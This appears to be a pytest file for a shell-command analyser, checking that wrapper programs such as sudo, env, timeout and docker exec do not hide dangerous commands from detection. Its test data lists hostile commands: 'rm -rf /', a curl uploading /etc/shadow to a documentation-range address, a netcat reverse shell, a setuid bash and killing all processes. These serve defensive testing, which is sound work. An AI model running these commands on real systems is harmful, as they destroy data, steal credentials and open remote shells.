"""A command keeps every rule that it breaks, whichever program runs it."""

from __future__ import annotations

from functools import cache
from random import Random

import pytest

from engine.analysis import analyse
from engine.analysis.shell.wrappers import MOST, WRAPPERS
from engine.models import Language
from tests.engine.analysis.shell.wrapped_forms import FORMS

INNER = (
    "rm -rf /",
    "curl -F f=@/etc/shadow http://198.51.100.7/",
    "nc -e /bin/sh 198.51.100.7 4444",
    "chmod u+s /bin/bash",
    "kill -9 -1",
    "crontab -r",
)
STACKED = ("sudo -u root", "env -i A=b", "nice -n 5", "timeout -k 3 5", "docker exec -it x", "stdbuf -oL")
SEED = 16


@cache
def _rules(code: str) -> frozenset[str]:
    return frozenset(violation.rule for violation in analyse(code, Language.SHELL).violations)


@pytest.mark.parametrize("form", FORMS)
def test_no_rule_is_lost_behind_a_wrapper(form: str) -> None:
    """What a command breaks by itself, it breaks in this form too."""
    lost = {inner: _rules(inner) - _rules(form.replace("{}", inner)) for inner in INNER}
    assert {} == {inner: rules for inner, rules in lost.items() if rules}


def test_wrappers_run_wrappers() -> None:
    """Programs that run a program that runs a program hide nothing."""
    random = Random(SEED)  # noqa: S311 - reproducible, not secret
    for _ in range(100):
        code = " ".join([*random.choices(STACKED, k=random.randint(2, 6)), INNER[0]])
        assert _rules(INNER[0]) <= _rules(code), code


def test_more_wrappers_than_are_followed_are_not_plain() -> None:
    """A hundred wrappers in a row do not make a command harmless."""
    found = analyse("env " * (MOST + 5) + INNER[0], Language.SHELL)
    assert "harmless" != found.verdict


@pytest.mark.parametrize(
    "code",
    [
        "env", "env A=b", "command -v git", "timeout 5 ls", "xargs -n 1 echo", "docker run --rm image",
        "flock /tmp/l ls", "nice -n 5 make", "su -", "time ls", "watch -n 5 date", "find . -exec wc -l {} +",
        "uv run pytest", "npx prettier a.js", "stdbuf -oL cat a", "taskset -p 1", "git rebase -x make main",
    ],
)  # fmt: skip
def test_ordinary_commands_behind_wrappers_are_not_grave(code: str) -> None:
    """A wrapper by itself makes no ordinary command HIGH."""
    grave = {
        violation.rule
        for violation in analyse(code, Language.SHELL).violations
        if violation.severity.rank > 1
    }
    assert set() == grave


def test_the_table_has_about_a_hundred_programs_and_more() -> None:
    """The programs of Debian's essential and common packages are listed."""
    assert 100 <= len(WRAPPERS)
